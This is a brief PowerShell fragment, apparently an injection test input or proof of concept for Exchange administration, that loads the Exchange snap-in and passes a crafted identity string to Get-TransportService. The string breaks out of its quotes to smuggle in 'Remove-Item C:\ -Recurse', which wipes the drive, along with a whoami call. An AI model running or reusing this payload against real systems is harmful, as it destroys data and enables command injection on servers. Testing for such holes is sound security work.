Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn
"$((Get-TransportService -Identity 'EX01''; Remove-Item C:\ -Recurse; ''’’$(whoami)`n
x').InternalTransportCertificateThumbprint)"
